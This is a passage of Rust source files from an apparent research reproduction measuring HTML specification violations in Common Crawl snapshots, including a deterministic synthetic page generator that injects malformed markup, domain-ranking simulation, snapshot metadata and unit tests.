pub fn str_key(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x1000_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        assert_eq!(hash(1, &[2, 3]), hash(1, &[2, 3]));
        assert_ne!(hash(1, &[2, 3]), hash(1, &[3, 2]));
        assert_ne!(hash(1, &[2, 3]), hash(2, &[2, 3]));
    }

    #[test]
    fn unit_in_range() {
        for i in 0..1000 {
            let u = unit(42, &[i]);
            assert!((0.0..1.0).contains(&u));
        }
    }

    #[test]
    fn chance_matches_probability() {
        let p = 0.3;
        let hits = (0..100_000).filter(|&i| chance(7, &[i], p)).count();
        let rate = hits as f64 / 100_000.0;
        assert!((rate - p).abs() < 0.01, "rate {rate}");
    }

    #[test]
    fn below_bounds_and_uniformity() {
        let mut counts = [0usize; 10];
        for i in 0..100_000u64 {
            counts[below(3, &[i], 10)] += 1;
        }
        for c in counts {
            assert!((8_000..12_000).contains(&c), "{counts:?}");
        }
    }

    #[test]
    fn keyed_rng_sequence_is_stable() {
        let mut a = KeyedRng::new(9, &[1]);
        let mut b = KeyedRng::new(9, &[1]);
        for _ in 0..16 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn str_key_distinguishes() {
        assert_ne!(str_key("example.com"), str_key("example.org"));
        assert_eq!(str_key("x"), str_key("x"));
    }
}
