//! The study's eight Common-Crawl snapshots (Table 2).

use serde::{Deserialize, Serialize};
use std::fmt;

/// Number of yearly snapshots (2015–2022).
pub const YEARS: usize = 8;

/// One archived snapshot, identified the way Common Crawl names its monthly
/// crawls.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Snapshot(pub u8);

impl Snapshot {
    /// All snapshots in study order.
    pub const ALL: [Snapshot; YEARS] = [
        Snapshot(0),
        Snapshot(1),
        Snapshot(2),
        Snapshot(3),
        Snapshot(4),
        Snapshot(5),
        Snapshot(6),
        Snapshot(7),
    ];

    /// The Common Crawl crawl id, e.g. `CC-MAIN-2015-14`.
    pub fn crawl_id(self) -> &'static str {
        const IDS: [&str; YEARS] = [
            "CC-MAIN-2015-14",
            "CC-MAIN-2016-07",
            "CC-MAIN-2017-04",
            "CC-MAIN-2018-05",
            "CC-MAIN-2019-04",
            "CC-MAIN-2020-05",
            "CC-MAIN-2021-04",
            "CC-MAIN-2022-05",
        ];
        IDS[self.0 as usize]
    }

    /// Calendar year of the snapshot.
    pub fn year(self) -> u16 {
        2015 + self.0 as u16
    }

    /// Index 0..8 for table lookups.
    pub fn index(self) -> usize {
        self.0 as usize
    }

    pub fn from_year(year: u16) -> Option<Snapshot> {
        if (2015..=2022).contains(&year) {
            Some(Snapshot((year - 2015) as u8))
        } else {
            None
        }
    }
}

impl fmt::Display for Snapshot {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.crawl_id())
    }
}

/// Table 2 targets: domains found per snapshot (of the 24,915-domain
/// universe), success rate, and average pages per domain.
#[derive(Debug, Clone, Copy)]
pub struct SnapshotTargets {
    /// Domains with a CC entry in this snapshot.
    pub domains: u32,
    /// Share of those successfully analyzed (UTF-8 decodable).
    pub success_rate: f64,
    /// Average pages per successfully analyzed domain.
    pub avg_pages: f64,
}

/// Table 2, digitized.
pub const TABLE2_TARGETS: [SnapshotTargets; YEARS] = [
    SnapshotTargets { domains: 21_068, success_rate: 0.977, avg_pages: 78.8 },
    SnapshotTargets { domains: 21_156, success_rate: 0.979, avg_pages: 77.9 },
    SnapshotTargets { domains: 22_311, success_rate: 0.988, avg_pages: 87.3 },
    SnapshotTargets { domains: 22_504, success_rate: 0.990, avg_pages: 88.3 },
    SnapshotTargets { domains: 23_049, success_rate: 0.991, avg_pages: 90.1 },
    SnapshotTargets { domains: 22_923, success_rate: 0.992, avg_pages: 89.7 },
    SnapshotTargets { domains: 22_843, success_rate: 0.993, avg_pages: 89.8 },
    SnapshotTargets { domains: 22_583, success_rate: 0.993, avg_pages: 89.7 },
];

/// The paper's universe sizes: Tranco intersection (24,915), domains found
/// on CC at least once (24,050), successfully analyzed at least once
/// (23,983).
pub const UNIVERSE: u32 = 24_915;
pub const FOUND_EVER: u32 = 24_050;
pub const ANALYZED_EVER: u32 = 23_983;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn snapshot_ids_and_years() {
        assert_eq!(Snapshot::ALL[0].crawl_id(), "CC-MAIN-2015-14");
        assert_eq!(Snapshot::ALL[7].crawl_id(), "CC-MAIN-2022-05");
        assert_eq!(Snapshot::ALL[3].year(), 2018);
        assert_eq!(Snapshot::from_year(2019), Some(Snapshot(4)));
        assert_eq!(Snapshot::from_year(2014), None);
    }

    #[test]
    fn table2_is_consistent() {
        for t in TABLE2_TARGETS {
            assert!(t.domains <= FOUND_EVER);
            assert!((0.9..=1.0).contains(&t.success_rate));
            assert!((50.0..=100.0).contains(&t.avg_pages));
        }
        const { assert!(FOUND_EVER < UNIVERSE) };
        const { assert!(ANALYZED_EVER < FOUND_EVER) };
    }
}
