//! Synthetic page generation.
//!
//! Pages are realistic multi-kilobyte documents (header/nav/main/footer,
//! tables, forms, SVG icons) assembled deterministically per
//! (domain, snapshot, page). Violations are injected **as concrete
//! violating markup** — the checkers must rediscover them from bytes
//! through the real parser, exactly as the paper's framework did on real
//! Common Crawl pages. The generator/checker agreement is enforced by the
//! tests at the bottom (the Rust analogue of the paper's 25-violating/25-
//! clean manual validation loop, §3.3).

use crate::profile::{Archetype, DomainSnapshot};
use crate::rng::{self, KeyedRng};
use hv_core::ViolationKind;

/// Violation kinds that live in a domain's shared template (and therefore
/// appear on most of its pages).
pub const TEMPLATE_KINDS: [ViolationKind; 9] = [
    ViolationKind::FB2,
    ViolationKind::FB1,
    ViolationKind::DM3,
    ViolationKind::HF1,
    ViolationKind::HF2,
    ViolationKind::HF3,
    ViolationKind::HF4,
    ViolationKind::HF5_1,
    ViolationKind::DM2_3,
];

/// Share of a domain's pages that include the template (template kinds
/// appear on this fraction of pages; page 0 always has the template).
const TEMPLATE_COVERAGE: f64 = 0.8;

/// Which of the domain's expressed violations appear on this page.
pub fn page_violations(seed: u64, ds: &DomainSnapshot, page_index: usize) -> Vec<ViolationKind> {
    let mut out = Vec::new();
    let n = ds.page_count;
    for &kind in &ds.expressed {
        let is_template = TEMPLATE_KINDS.contains(&kind);
        let on_page = if is_template {
            page_index == 0
                || rng::chance(
                    seed,
                    &[0x9A6E, ds.domain_id, ds.snapshot.index() as u64, page_index as u64],
                    TEMPLATE_COVERAGE,
                )
        } else {
            local_pages(seed, ds, kind).contains(&page_index)
        };
        let _ = n;
        if on_page {
            out.push(kind);
        }
    }
    out
}

/// Page indices carrying a page-local violation: 1–3 deterministic pages.
/// DE1/DE2 are pinned near the end of the page list and kept apart (an
/// unterminated textarea would swallow an unterminated select injected
/// after it).
fn local_pages(seed: u64, ds: &DomainSnapshot, kind: ViolationKind) -> Vec<usize> {
    let n = ds.page_count;
    match kind {
        ViolationKind::DE1 => vec![n - 1],
        ViolationKind::DE2 => vec![n.saturating_sub(2)],
        _ => {
            let k = 1 + rng::below(
                seed,
                &[0x10CA, ds.domain_id, ds.snapshot.index() as u64, kind as u64],
                3,
            );
            (0..k)
                .map(|j| {
                    rng::below(
                        seed,
                        &[0x10CB, ds.domain_id, ds.snapshot.index() as u64, kind as u64, j as u64],
                        n,
                    )
                })
                .collect()
        }
    }
}

const HEADLINES: [&str; 12] = [
    "Latest updates from the team",
    "Product highlights this week",
    "Getting started guide",
    "Community spotlight",
    "Release notes and changes",
    "Top stories today",
    "Featured collections",
    "Developer documentation",
    "Seasonal offers",
    "Press and media",
    "Research corner",
    "Editor picks",
];

const PARAGRAPH_WORDS: [&str; 24] = [
    "platform", "update", "release", "feature", "support", "customer", "service", "report",
    "detail", "overview", "article", "section", "summer", "winter", "catalog", "project",
    "library", "network", "archive", "gallery", "profile", "account", "partner", "insight",
];

/// Generate one page of the corpus as text.
pub fn generate_page(seed: u64, ds: &DomainSnapshot, page_index: usize) -> String {
    let violations = page_violations(seed, ds, page_index);
    let has = |k: ViolationKind| violations.contains(&k);
    let mut r =
        KeyedRng::new(seed, &[0x9E4E, ds.domain_id, ds.snapshot.index() as u64, page_index as u64]);
    let site = &ds.domain_name;
    let year = ds.snapshot.year();
    let mut h = String::with_capacity(4096);

    // ---- prologue & head ----
    h.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n");
    h.push_str("<head>\n");
    // HF1 has two real-world shapes: a foreign element breaking the head
    // open, or metadata trailing after the head closed. The first shape
    // makes the parser imply the body at the breaking element, which would
    // mask an HF2 injection on the same page — so pages expressing both
    // use the second shape.
    let hf1_late = has(ViolationKind::HF1) && has(ViolationKind::HF2);
    if has(ViolationKind::DM2_2) {
        // Two base elements, both ahead of any URL-using element.
        h.push_str("  <base href=\"/\">\n  <base href=\"/en/\">\n");
    }
    h.push_str("  <meta charset=\"utf-8\">\n");
    h.push_str("  <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n");
    h.push_str(&format!("  <title>{} — {}</title>\n", r.pick(&HEADLINES), site));
    // DM2_1 wants a base at the top of the body *before any URL-using
    // element*, so its pages use an inline-style head (no stylesheet link).
    let url_free_head = has(ViolationKind::DM2_1);
    if url_free_head {
        h.push_str("  <style>body{margin:0;font:16px/1.5 sans-serif}</style>\n");
    } else {
        h.push_str("  <link rel=\"stylesheet\" href=\"/assets/main.css\">\n");
        if has(ViolationKind::DM2_3) {
            // Base after the stylesheet link: DM2_3 exactly.
            h.push_str("  <base href=\"/content/\">\n");
        }
        h.push_str("  <script src=\"/assets/app.js\" defer></script>\n");
    }
    if has(ViolationKind::HF1) && !hf1_late {
        // A hidden modal div inside the head (after the metadata): the
        // parser closes the head here and implies the body — the paper's
        // recurring HF1 case. Placed last so the page's metadata still
        // lands in the head, keeping the other DM checks independent.
        h.push_str("  <div class=\"preload-modal\" style=\"display:none\">loading</div>\n");
    }
    h.push_str("</head>\n");
    if hf1_late {
        // Metadata that belongs in the head, arriving after it closed: the
        // parser re-opens the head element for it (HF1's other shape).
        h.push_str("<meta name=\"generator\" content=\"legacy-cms 2.3\">\n");
    }

    // ---- body opening (HF2: omitted body tag) ----
    if !has(ViolationKind::HF2) {
        h.push_str("<body class=\"page\">\n");
    }
    if has(ViolationKind::DM2_1) {
        if has(ViolationKind::HF2) {
            // With the body tag omitted, a bare base would be pulled back
            // into the head as late metadata; a (URL-free) banner div
            // implies the body first, as real pages do.
            h.push_str("<div class=\"top-banner\">welcome</div>\n");
        }
        // Injected/legacy base at the top of the body (CVE-2020-29653's
        // shape): outside head, but ahead of every URL-using element.
        h.push_str("<base href=\"https://cdn.example-mirror.net/\">\n");
    }

    // ---- header / nav: the template violations live here ----
    h.push_str("<header class=\"site-header\">\n");
    if has(ViolationKind::FB1) {
        h.push_str("  <img/src=\"/assets/logo.png\"/alt=\"logo\" class=\"logo\">\n");
    } else {
        h.push_str("  <img src=\"/assets/logo.png\" alt=\"logo\" class=\"logo\">\n");
    }
    if has(ViolationKind::DM3) {
        // A refactor added classes although some already existed (Fig. 14).
        h.push_str("  <nav id=\"menu\" class=\"nav\" class=\"nav-wide\">\n");
    } else {
        h.push_str("  <nav id=\"menu\" class=\"nav\">\n");
    }
    let nav_items = ["home", "products", "stories", "about", "contact"];
    for (i, item) in nav_items.iter().enumerate() {
        if has(ViolationKind::FB2) && i == 1 {
            // Missing space between attributes — the single most common
            // violation in the study.
            h.push_str(&format!("    <a href=\"/{item}/\"class=\"nav-link\">{item}</a>\n"));
        } else if ds.benign_newline_url && i == 2 {
            // Multi-line URL without '<': counted by the §4.5 mitigation
            // analysis, not a violation.
            h.push_str(&format!(
                "    <a href=\"/{item}\n/archive\" class=\"nav-link\">{item}</a>\n"
            ));
        } else {
            h.push_str(&format!("    <a href=\"/{item}/\" class=\"nav-link\">{item}</a>\n"));
        }
    }
    h.push_str("  </nav>\n");
    if has(ViolationKind::HF5_1) {
        // An SVG sprite fragment pasted without its <svg> root.
        h.push_str("  <path d=\"M4 4h16v16H4z\" class=\"icon-box\"></path>\n");
    } else {
        h.push_str(
            "  <svg viewBox=\"0 0 24 24\" class=\"icon\"><path d=\"M4 4h16v16H4z\"></path></svg>\n",
        );
    }
    h.push_str("</header>\n");

    // ---- main content ----
    h.push_str("<main>\n");
    h.push_str(&format!("  <h1>{}</h1>\n", r.pick(&HEADLINES)));
    let paras = r.range(2, 5);
    for _ in 0..paras {
        h.push_str("  <p>");
        let words = r.range(12, 40);
        for w in 0..words {
            if w > 0 {
                h.push(' ');
            }
            #[allow(clippy::explicit_auto_deref)]
            h.push_str(*r.pick(&PARAGRAPH_WORDS));
        }
        h.push_str(&format!(" ({year}).</p>\n"));
    }

    if has(ViolationKind::DM1) {
        // A meta refresh dropped into the body (Figure 15).
        h.push_str("  <meta http-equiv=\"refresh\" content=\"600; URL=/refresh\">\n");
    }

    match ds.archetype {
        Archetype::News | Archetype::Portal => {
            h.push_str("  <section class=\"teasers\">\n");
            for i in 0..r.range(2, 4) {
                h.push_str(&format!(
                    "    <article><h2>{}</h2><a href=\"/story/{i}\">read more</a></article>\n",
                    r.pick(&HEADLINES)
                ));
            }
            h.push_str("  </section>\n");
        }
        Archetype::Shop => {
            h.push_str("  <ul class=\"products\">\n");
            for i in 0..r.range(3, 6) {
                h.push_str(&format!(
                    "    <li><img src=\"/img/p{i}.jpg\" alt=\"item {i}\"><span>{}€</span></li>\n",
                    r.range(5, 400)
                ));
            }
            h.push_str("  </ul>\n");
        }
        Archetype::Blog | Archetype::Docs => {
            h.push_str("  <pre><code>cargo run --example quickstart</code></pre>\n");
        }
        Archetype::App => {
            h.push_str("  <div id=\"app\" data-mount=\"root\"></div>\n");
        }
    }

    // Layout table (Figure 11's shape when HF4 is expressed).
    if has(ViolationKind::HF4) {
        h.push_str(&format!(
            "  <table class=\"layout\">\n    <tr><strong>{}</strong></tr>\n    <tr>\n      <td>The #1 destination for {}</td>\n      <td><img src=\"/img/banner.png\" align=\"right\"></td>\n    </tr>\n  </table>\n",
            site,
            r.pick(&PARAGRAPH_WORDS)
        ));
    } else if r.chance(0.4) {
        h.push_str(
            "  <table class=\"data\">\n    <tr><td>metric</td><td>value</td></tr>\n    <tr><td>visits</td><td>1024</td></tr>\n  </table>\n",
        );
    }

    if has(ViolationKind::HF5_2) {
        // An HTML tooltip dropped inside an SVG chart: breakout.
        h.push_str(
            "  <svg viewBox=\"0 0 80 20\" class=\"chart\"><rect width=\"40\" height=\"8\"></rect><div class=\"tooltip\">40%</div></svg>\n",
        );
    }
    if has(ViolationKind::HF5_3) {
        h.push_str(
            "  <math><mrow><mi>x</mi><img src=\"/img/formula.png\" alt=\"x\"></mrow></math>\n",
        );
    } else if ds.uses_math {
        // Well-formed MathML adoption (§4.2's usage counter): no violation.
        h.push_str(
            "  <math><mrow><mi>E</mi><mo>=</mo><mi>m</mi><msup><mi>c</mi><mn>2</mn></msup></mrow></math>\n",
        );
    }

    if has(ViolationKind::DE3_1) {
        // A non-terminated URL attribute that swallowed following markup.
        h.push_str(
            "  <a class=\"promo\" href=\"/deal?utm=x\n<span>today only</span>\">deals</a>\n",
        );
    }
    if has(ViolationKind::DE3_2) {
        h.push_str(
            "  <div class=\"embed\" data-embed='<script src=\"https://widgets.example.net/w.js\"></script>'>widget</div>\n",
        );
    }
    if has(ViolationKind::DE3_3) {
        h.push_str("  <a href=\"#next\" target=\"win\ndow2\">open in window</a>\n");
    }

    // Search form; DE4 doubles it (the copy-paste mistake of Figure 13).
    if has(ViolationKind::DE4) {
        h.push_str(
            "  <form method=\"get\" action=\"/search/\">\n  <form id=\"keywordsearch\" method=\"get\" action=\"/search\">\n    <input name=\"q\" type=\"text\" placeholder=\"Search...\">\n  </form>\n",
        );
    } else if r.chance(0.5) {
        h.push_str(
            "  <form method=\"get\" action=\"/search\"><input name=\"q\" type=\"text\"><button>Go</button></form>\n",
        );
    }
    h.push_str("</main>\n");

    // ---- footer ----
    h.push_str("<footer class=\"site-footer\">\n");
    h.push_str(&format!(
        "  <p>&copy; {year} {site}</p>\n  <a href=\"/imprint\">imprint</a> <a href=\"/privacy\">privacy</a>\n",
    ));
    h.push_str("</footer>\n");

    if has(ViolationKind::HF3) {
        // A second body tag left behind by a legacy template include. If
        // the page also omits its opening body tag (HF2), two legacy tags
        // are needed for the markup to contain multiple body elements.
        h.push_str("<body data-legacy=\"1\" class=\"page\">\n");
        if has(ViolationKind::HF2) {
            h.push_str("<body data-legacy=\"2\">\n");
        }
    }

    // ---- the swallowing injections go last ----
    if has(ViolationKind::DE2) {
        h.push_str("<select name=\"country\"><option value=\"de\">Germany\n<p>More content below is absorbed</p>\n");
    }
    if has(ViolationKind::DE1) {
        h.push_str("<form action=\"/feedback\"><input type=\"submit\"><textarea name=\"msg\">\n<p>Everything below is swallowed</p>\n");
    }

    if !has(ViolationKind::DE1) && !has(ViolationKind::DE2) {
        h.push_str("</body>\n</html>\n");
    }
    h
}

/// Generate the page as the byte stream the archive stores. When the
/// domain-snapshot failed the UTF-8 filter (Table 2's unsuccessful rows),
/// the bytes carry a legacy-encoding byte sequence that fails strict UTF-8
/// decoding, exactly what made the paper drop those documents.
pub fn generate_page_bytes(seed: u64, ds: &DomainSnapshot, page_index: usize) -> Vec<u8> {
    let text = generate_page(seed, ds, page_index);
    let mut bytes = text.into_bytes();
    if !ds.utf8_ok {
        // Splice an ISO-8859-1 "ü" (0xFC) into the title region.
        let pos = bytes.iter().position(|&b| b == b'<').map(|p| p + 1).unwrap_or(0);
        bytes.insert(pos, 0xFC);
    }
    bytes
}

/// URL of a page within the corpus.
pub fn page_url(domain: &str, page_index: usize) -> String {
    if page_index == 0 {
        format!("https://{domain}/")
    } else {
        format!("https://{domain}/page/{page_index}.html")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::DomainSnapshot;
    use crate::snapshots::Snapshot;
    use hv_core::ViolationKind as VK;

    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> hv_core::PageReport {
        hv_core::Battery::full().run_str(raw)
    }

    /// A synthetic domain-snapshot for driving the generator directly.
    fn ds_with(expressed: Vec<VK>) -> DomainSnapshot {
        DomainSnapshot {
            domain_id: 7,
            domain_name: "alphalabs.com".into(),
            rank: 1,
            snapshot: Snapshot::ALL[3],
            utf8_ok: true,
            page_count: 4,
            expressed,
            benign_newline_url: false,
            uses_math: false,
            archetype: crate::profile::Archetype::Shop,
        }
    }

    /// The paper's validation loop, automated: for every violation kind,
    /// a page generated *with* the injection must trigger exactly that
    /// checker, and a page generated *without* must not.
    #[test]
    fn generator_checker_agreement_per_kind() {
        for kind in VK::ALL {
            let ds = ds_with(vec![kind]);
            // Page 0 always carries template kinds; local kinds get looked
            // up via their assigned pages.
            let pages = if TEMPLATE_KINDS.contains(&kind) {
                vec![0usize]
            } else {
                super::local_pages(11, &ds, kind)
            };
            let mut hit = false;
            for p in pages {
                let html = generate_page(11, &ds, p);
                let report = check_page(&html);
                if report.has(kind) {
                    hit = true;
                }
                // No *other* violation may be introduced by this injection.
                for found in report.kinds() {
                    assert_eq!(
                        found, kind,
                        "injecting {kind} also triggered {found} on page:\n{html}"
                    );
                }
            }
            assert!(hit, "injected {kind} was not detected");
        }
    }

    #[test]
    fn clean_pages_are_clean() {
        for arch_idx in 0..6u64 {
            let mut ds = ds_with(vec![]);
            ds.archetype = crate::profile::Archetype::ALL[arch_idx as usize];
            ds.domain_id = arch_idx;
            for p in 0..4 {
                let html = generate_page(5, &ds, p);
                let report = check_page(&html);
                assert!(
                    report.is_clean(),
                    "clean template produced findings {:?}:\n{html}",
                    report.findings
                );
            }
        }
    }

    #[test]
    fn all_twenty_at_once_still_detected() {
        // Stress: a maximally sloppy domain expressing everything.
        let ds = ds_with(VK::ALL.to_vec());
        let mut detected = std::collections::BTreeSet::new();
        for p in 0..ds.page_count {
            let html = generate_page(3, &ds, p);
            for k in check_page(&html).kinds() {
                detected.insert(k);
            }
        }
        for kind in VK::ALL {
            assert!(detected.contains(&kind), "{kind} lost in combined injection");
        }
    }

    #[test]
    fn benign_newline_url_sets_mitigation_flag_only() {
        let mut ds = ds_with(vec![]);
        ds.benign_newline_url = true;
        let html = generate_page(5, &ds, 0);
        let report = check_page(&html);
        assert!(report.is_clean(), "{:?}", report.findings);
        assert!(report.mitigations.newline_in_url);
        assert!(!report.mitigations.newline_and_lt_in_url);
    }

    #[test]
    fn de3_1_sets_both_mitigation_flags() {
        let ds = ds_with(vec![VK::DE3_1]);
        let page = super::local_pages(11, &ds, VK::DE3_1)[0];
        let html = generate_page(11, &ds, page);
        let report = check_page(&html);
        assert!(report.mitigations.newline_and_lt_in_url);
    }

    #[test]
    fn pages_are_deterministic() {
        let ds = ds_with(vec![VK::FB2, VK::HF4]);
        assert_eq!(generate_page(9, &ds, 1), generate_page(9, &ds, 1));
        assert_ne!(generate_page(9, &ds, 1), generate_page(9, &ds, 2));
    }

    #[test]
    fn pages_have_realistic_size() {
        let ds = ds_with(vec![]);
        let html = generate_page(1, &ds, 0);
        assert!(html.len() > 1200, "page too small: {}", html.len());
        assert!(html.len() < 64 * 1024);
    }

    #[test]
    fn non_utf8_bytes_fail_strict_decode() {
        let mut ds = ds_with(vec![]);
        ds.utf8_ok = false;
        let bytes = generate_page_bytes(1, &ds, 0);
        assert!(!spec_html::decoder::is_utf8_clean(&bytes));
        ds.utf8_ok = true;
        let bytes = generate_page_bytes(1, &ds, 0);
        assert!(spec_html::decoder::is_utf8_clean(&bytes));
    }

    #[test]
    fn page_urls() {
        assert_eq!(page_url("x.com", 0), "https://x.com/");
        assert_eq!(page_url("x.com", 3), "https://x.com/page/3.html");
    }
}
