//! Tranco-style ranked domain lists (§3.3, §4.1).
//!
//! The paper takes the top 50,000 of *every* Tranco list in its window,
//! keeps the domains present on all of them (excluding trending outliers),
//! and orders the survivors by average rank — yielding 24,915 domains. This
//! module simulates that: a popularity-ordered candidate universe, several
//! noisy list instances, the all-lists intersection, and average-rank
//! ordering.

use crate::rng;

/// Number of simulated list instances (the paper uses "every single Tranco
/// list" in its window; rank noise across a handful captures the effect).
pub const LIST_COUNT: usize = 5;

/// Rank cut-off per list.
pub const RANK_CUTOFF: u32 = 50_000;

/// A domain in the final averaged top list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RankedDomain {
    pub name: String,
    /// 1-based rank by average across lists.
    pub rank: u32,
    /// Stable id (index into the candidate universe) used to key all
    /// deterministic draws for this domain.
    pub id: u64,
}

/// Deterministic candidate-universe domain name for index `i`.
///
/// Compound names from fixed word lists — enough combinations for any
/// scale, readable in reports, and guaranteed collision-free by
/// construction (the index is bijective with the word combination).
pub fn domain_name(i: u64) -> String {
    const FIRST: [&str; 48] = [
        "alpha", "atlas", "apex", "aero", "bright", "blue", "cedar", "clever", "cosmo", "crisp",
        "delta", "dusk", "ember", "echo", "fable", "fleet", "gala", "glide", "harbor", "hazel",
        "iron", "ivory", "jade", "jolt", "karma", "kite", "lumen", "lunar", "maple", "metro",
        "nimbus", "nova", "ocean", "onyx", "pixel", "prime", "quartz", "quick", "raven", "ridge",
        "sable", "solar", "terra", "tidal", "umber", "vivid", "willow", "zephyr",
    ];
    const SECOND: [&str; 52] = [
        "labs", "media", "press", "mart", "hub", "works", "forge", "cloud", "wire", "point",
        "base", "desk", "nest", "port", "gate", "stream", "shop", "store", "news", "times",
        "daily", "post", "view", "space", "link", "net", "zone", "spot", "site", "page", "data",
        "stack", "grid", "cast", "play", "game", "tech", "soft", "apps", "tools", "bank", "pay",
        "trade", "market", "travel", "food", "health", "learn", "edu", "video", "music", "photo",
    ];
    const TLD: [&str; 10] = ["com", "org", "net", "io", "de", "co.uk", "fr", "it", "nl", "app"];
    let f = (i % FIRST.len() as u64) as usize;
    let s = ((i / FIRST.len() as u64) % SECOND.len() as u64) as usize;
    let t = ((i / (FIRST.len() as u64 * SECOND.len() as u64)) % TLD.len() as u64) as usize;
    let gen = i / (FIRST.len() as u64 * SECOND.len() as u64 * TLD.len() as u64);
    if gen == 0 {
        format!("{}{}.{}", FIRST[f], SECOND[s], TLD[t])
    } else {
        format!("{}{}{}.{}", FIRST[f], SECOND[s], gen, TLD[t])
    }
}

/// Simulate the paper's list-building: candidates get noisy ranks on each
/// list; only domains within the cutoff on *all* lists survive; survivors
/// are ordered by average rank.
///
/// `target` is the desired survivor count (24,915 at full scale). The
/// candidate pool is oversized so that boundary noise trims roughly the
/// paper's share; the pool is then cut to exactly `target` by average rank,
/// mirroring "order them by average rank" (§3.3).
pub fn build_top_list(seed: u64, target: usize) -> Vec<RankedDomain> {
    let pool = (target as f64 * 1.15) as usize + 8;
    // Scale base ranks so the first `target` candidates can never be
    // noised past the cutoff (they are on every list by construction);
    // candidates beyond sit in the noisy boundary band and only sometimes
    // make every list — the paper's excluded "trending" outliers.
    let base_step = RANK_CUTOFF as f64 * 0.9 / target as f64;
    let mut survivors: Vec<(f64, u64)> = Vec::with_capacity(pool);
    for i in 0..pool as u64 {
        // Base popularity rank is the candidate index (the universe is
        // popularity-ordered by construction); each list perturbs it.
        let base = (i + 1) as f64 * base_step;
        let mut sum = 0.0;
        let mut on_all = true;
        for list in 0..LIST_COUNT as u64 {
            let noise = 0.9 + 0.2 * rng::unit(seed, &[0x7124C0, i, list]);
            let rank = base * noise;
            if rank > RANK_CUTOFF as f64 {
                on_all = false;
                break;
            }
            sum += rank;
        }
        if on_all {
            survivors.push((sum / LIST_COUNT as f64, i));
        }
    }
    survivors.sort_by(|a, b| a.0.partial_cmp(&b.0).unwrap());
    survivors.truncate(target);
    survivors
        .into_iter()
        .enumerate()
        .map(|(idx, (_avg, i))| RankedDomain {
            name: domain_name(i),
            rank: (idx + 1) as u32,
            id: i,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_unique_and_wellformed() {
        let mut names: Vec<String> = (0..30_000).map(domain_name).collect();
        names.sort_unstable();
        let before = names.len();
        names.dedup();
        assert_eq!(names.len(), before, "domain names must be unique");
        for n in names.iter().take(100) {
            assert!(n.contains('.'));
            assert!(n.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '.'));
        }
    }

    #[test]
    fn top_list_hits_target_and_is_ranked() {
        let list = build_top_list(42, 2_000);
        assert_eq!(list.len(), 2_000);
        for (i, d) in list.iter().enumerate() {
            assert_eq!(d.rank, (i + 1) as u32);
        }
    }

    #[test]
    fn top_list_is_deterministic() {
        let a = build_top_list(42, 500);
        let b = build_top_list(42, 500);
        assert_eq!(a, b);
        let c = build_top_list(43, 500);
        assert_ne!(a, c, "different seed must shuffle the boundary");
    }

    #[test]
    fn full_scale_universe_size() {
        let list = build_top_list(1, crate::snapshots::UNIVERSE as usize);
        assert_eq!(list.len(), crate::snapshots::UNIVERSE as usize);
    }

    #[test]
    fn intersection_drops_boundary_domains() {
        // Candidates near the cutoff must sometimes fall off a list —
        // the mechanism that excludes trending outliers in the paper.
        let pool = 1_200usize;
        let list = build_top_list(7, 1_000);
        // Some candidate ids beyond the sorted prefix should be absent.
        let ids: std::collections::HashSet<u64> = list.iter().map(|d| d.id).collect();
        let missing_low_ids = (0..pool as u64).filter(|i| !ids.contains(i)).count();
        assert!(missing_low_ids > 0);
    }
}

#[cfg(test)]
mod rank_tests {
    use super::*;
    use crate::profile::ProfileModel;
    use crate::snapshots::Snapshot;

    /// §4.1: "the average Tranco rank remains around 16,150 for all
    /// snapshots" — presence must be rank-independent so the analyzed
    /// population's mean rank matches the universe's.
    #[test]
    fn average_rank_of_analyzed_domains_is_stable() {
        let list = build_top_list(3, 6_000);
        let model = ProfileModel::new(3, crate::calibration::solve());
        let universe_mean: f64 =
            list.iter().map(|d| d.rank as f64).sum::<f64>() / list.len() as f64;
        for snap in [Snapshot::ALL[0], Snapshot::ALL[7]] {
            let analyzed: Vec<f64> = list
                .iter()
                .filter(|d| model.present(d.id, snap) && model.utf8_ok(d.id, snap))
                .map(|d| d.rank as f64)
                .collect();
            let mean = analyzed.iter().sum::<f64>() / analyzed.len() as f64;
            let drift = (mean - universe_mean).abs() / universe_mean;
            assert!(drift < 0.02, "{snap}: mean rank drifted {:.1}%", drift * 100.0);
        }
    }
}
