//! The virtual web archive: Common Crawl's interface, deterministic
//! generation instead of petabytes of storage.
//!
//! Real Common Crawl is (a) a CDX metadata index queried per domain and
//! (b) WARC files fetched by (offset, length). This module reproduces that
//! *interface*: [`Archive::cdx_lookup`] answers step (1) of the paper's
//! Figure-6 pipeline, [`Archive::fetch`] answers step (2). Bodies are
//! produced on demand by the calibrated generator — a page's bytes are a
//! pure function of (seed, domain, snapshot, page), so the archive needs no
//! storage at all while behaving exactly like an immutable crawl dump.

use crate::calibration;
use crate::htmlgen;
use crate::profile::{DomainSnapshot, ProfileModel};
use crate::snapshots::Snapshot;
use crate::tranco::{self, RankedDomain};
use serde::{Deserialize, Serialize};

/// Corpus configuration.
#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
pub struct CorpusConfig {
    /// Master seed; every byte of the corpus derives from it.
    pub seed: u64,
    /// Fraction of the paper's 24,915-domain universe to materialize
    /// (1.0 = full scale). Rates are scale-invariant; only counts shrink.
    pub scale: f64,
}

impl Default for CorpusConfig {
    fn default() -> Self {
        CorpusConfig { seed: 0x48_56_31, scale: 0.05 }
    }
}

impl CorpusConfig {
    /// Number of domains in the scaled universe.
    pub fn universe_size(&self) -> usize {
